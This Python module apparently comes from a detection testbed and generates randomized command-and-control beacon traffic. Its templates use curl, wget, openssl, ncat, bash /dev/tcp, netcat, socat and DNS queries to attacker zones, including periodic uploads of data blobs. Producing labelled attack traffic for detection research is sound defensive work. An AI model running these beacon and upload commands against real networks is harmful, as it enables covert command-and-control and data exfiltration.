"""Implants that call home again and again: periods, jitter, protocols, payloads and user agents are drawn."""

from testbed.attacks.material import INSIDE, blob, drop, maybe, program, repeat, serving, text, user_agent, words, zone
from testbed.attacks.tunnels import through_names
from testbed.catalogue import Assault, attack

WEB = "T1071.001"
BARE = "T1095"
DNS = "T1071.004"


def rhythm(c) -> tuple[int, float, float]:
    """How many seconds it goes on, the period in seconds, and by which share it varies."""
    return (
        c.between(80, 150),
        c.choose(2.0, 3.0, 4.0, 5.0, 7.0, 10.0, c.between(2.0, 12.0)),
        c.choose(0, 0, 0.1, 0.25, 0.5),
    )


def path(c) -> str:
    return c.choose(
        "/api/v2/check",
        "/api/status",
        "/t.gif",
        "/search",
        f"/u/{c.between(1, 10**8):x}",
        "/ping",
        "/jquery.js",
        "/submit.php",
        "/updates",
        f"/{c.between(1, 10**9):x}.html",
        "/ca",
        "/__utm.gif",
    )


@attack("c2_beacon_https", technique=WEB, tool="curl", origins=INSIDE, packages=("curl",), seconds=170)
def curl_beacon(c):
    end, (seconds, period, jitter) = drop(c, c.choose("https", "https", "https", "http")), rhythm(c)
    check = words(
        f"curl -sk -m 8 -A '{user_agent(c)}'",
        maybe(c, 0.5, "--http1.1"),
        c.choose("", f"-d id={c.between(1, 10**12):x}", f"-b s={c.between(1, 10**15):x}", '-H "X-Id: $RANDOM$RANDOM"'),
        f"-o /dev/null {end.url}{path(c)}",
    )
    report = (
        f"[ $((RANDOM % {c.between(6, 16)})) = 0 ] && {blob(c.between(800, 20000))} |"
        f" curl -sk -m 8 -T - -o /dev/null {end.url}/up"
    )
    return Assault(repeat(c, seconds, f"{check}; {report}" if c.chance(0.4) else check, period, jitter), **end.assault)


@attack("c2_beacon_https", technique=WEB, tool="wget", origins=INSIDE, packages=("wget",), seconds=170)
def wget_beacon(c):
    end, (seconds, period, jitter) = drop(c, c.choose("https", "https", "http")), rhythm(c)
    post = maybe(c, 0.4, f"--post-data id={c.between(1, 10**12):x}")
    return Assault(
        repeat(
            c,
            seconds,
            words(
                "wget -q -T 8 -t 1 --no-check-certificate",
                f"-U '{user_agent(c)}'",
                post,
                f"-O /dev/null {end.url}{path(c)}",
            ),
            period,
            jitter,
        ),
        **end.assault,
    )


@attack("c2_beacon_https", technique=WEB, tool="openssl", origins=INSIDE, packages=("openssl",), seconds=170)
def openssl_beacon(c):
    end, (seconds, period, jitter) = drop(c, "https"), rhythm(c)
    size = c.between(24, 600)
    ask = (
        f"(body=$({text(size)}); printf 'POST {path(c)} HTTP/1.0\\r\\nContent-Length: %s\\r\\n\\r\\n%s'"
        f" ${{#body}} $body; sleep 0.5) | timeout 6 openssl s_client -quiet {c.choose('', '-tls1_2')}"
        f" -connect {end.address}:{end.port} >/dev/null 2>&1"
    )
    return Assault(repeat(c, seconds, ask, period, jitter), **end.assault)


def implant(c, kind: str) -> Assault:
    """The testbed's own implant, which holds its connection or opens one for each call."""
    end, (seconds, period, jitter) = drop(c, kind), rhythm(c)
    low = c.between(8, 400)
    return Assault(
        words(
            program(
                "beacon.py",
                end.url + (path(c) if kind.startswith("http") else ""),
                "--seconds",
                seconds,
                "--period",
                period,
                "--jitter",
                jitter,
                "--payload",
                low,
                low + c.choose(0, 20, 300),
                "--seed",
                c.between(1, 10**6),
            ),
            f"--agent '{user_agent(c)}'",
            c.choose("--keep", "", ""),
        ),
        **end.assault,
    )


@attack("c2_beacon_https", technique=WEB, tool="beacon.py", origins=INSIDE, packages=("python3",), seconds=170)
def python_beacon(c):
    return implant(c, c.choose("https", "https", "http"))


@attack("c2_beacon_tcp", technique=BARE, tool="beacon.py", origins=INSIDE, packages=("python3",), seconds=170)
def python_bare_beacon(c):
    return implant(c, c.choose("tcp", "tls"))


@attack("c2_beacon_tcp", technique=BARE, tool="ncat", origins=INSIDE, packages=("ncat",), seconds=170)
def ncat_beacon(c):
    kind = c.choose("tcp", "tls")
    end = drop(c, kind)
    return bare(
        c, end, words("timeout 5 ncat -w2 --send-only", "--ssl" if kind == "tls" else "", f"{end.address} {end.port}")
    )


@attack("c2_beacon_tcp", technique=BARE, tool="bash", origins=INSIDE, seconds=170)
def bash_beacon(c):
    end = drop(c, "tcp")
    return bare(c, end, f'timeout 5 bash -c "cat > /dev/tcp/{end.address}/{end.port}"')


@attack("c2_beacon_tcp", technique=BARE, tool="netcat", origins=INSIDE, packages=("netcat-openbsd",), seconds=170)
def netcat_beacon(c):
    end = drop(c, "tcp")
    return bare(c, end, f"timeout 5 nc.openbsd -q{c.choose(0, 1)} -w2 {end.address} {end.port}")


@attack("c2_beacon_tcp", technique=BARE, tool="socat", origins=INSIDE, packages=("socat",), seconds=170)
def socat_beacon(c):
    end, (seconds, period, jitter) = drop(c, "tcp"), rhythm(c)
    if c.chance(0.5):
        held = repeat(c, seconds, blob(c.between(8, 300)), period, jitter)
        return Assault(f"({held}) | socat -u - TCP:{end.address}:{end.port}", variant="one connection", **end.assault)
    return bare(c, end, f"timeout 5 socat -u - TCP:{end.address}:{end.port}")


def bare(c, end, send: str) -> Assault:
    """Sends a few bytes at each call."""
    seconds, period, jitter = rhythm(c)
    return Assault(
        repeat(
            c,
            seconds,
            f"head -c $(({c.between(8, 200)} + RANDOM % {c.between(1, 90)})) /dev/urandom | {send}",
            period,
            jitter,
        ),
        **end.assault,
    )


@attack(
    "c2_beacon_dns",
    technique=DNS,
    tool="dig",
    origins=INSIDE,
    needs=("dns", "outside:zones"),
    packages=("bind9-dnsutils",),
    seconds=170,
)
def dig_beacon(c):
    first = c.choose(
        f"$(head -c {c.between(4, 20)} /dev/urandom | od -An -tx1 | tr -d ' \\n')",
        f"{c.between(1, 10**9):x}.$RANDOM",
        f"$(date +%s).{c.between(1, 10**6):x}",
    )
    kind = c.choose("TXT", "A", "AAAA", "CNAME", "MX")
    return calling(c, lambda name: f"dig +tries=1 +time=2 +short {kind} {first}.{name}")


@attack(
    "c2_beacon_dns",
    technique=DNS,
    tool="getent",
    origins=INSIDE,
    needs=("dns", "outside:zones"),
    packages=("libc-bin",),
    seconds=170,
)
def getent_beacon(c):
    return calling(c, lambda name: f"getent ahostsv4 {c.between(1, 10**9):x}-$RANDOM.{name}")


@attack(
    "c2_beacon_dns",
    technique=DNS,
    tool="names.py",
    origins=INSIDE,
    needs=("dns", "outside:zones"),
    packages=("python3",),
    seconds=170,
)
def names_beacon(c):
    return calling(
        c,
        lambda name: program(
            "names.py",
            "--zone",
            name,
            "--server",
            c.network.resolver,
            "--bytes",
            c.between(8, 40),
            "--label",
            c.between(16, 40),
            "--labels 1",
            "--type",
            c.choose("TXT", "A", "NULL", "MX"),
            "--seed $RANDOM",
        ),
    )


def calling(c, command) -> Assault:
    """Asks for names of a zone of the attacker's again and again; `command` makes one call of the zone."""
    (seconds, period, jitter), (name, port) = rhythm(c), zone(c)
    server = program("zone.py", "--zone", name, "--port", port, "--seed", c.between(1, 10**6))
    return Assault(
        repeat(c, seconds, command(name), period, jitter),
        evidence=through_names(name),
        **serving(name, port, server, c),
    )
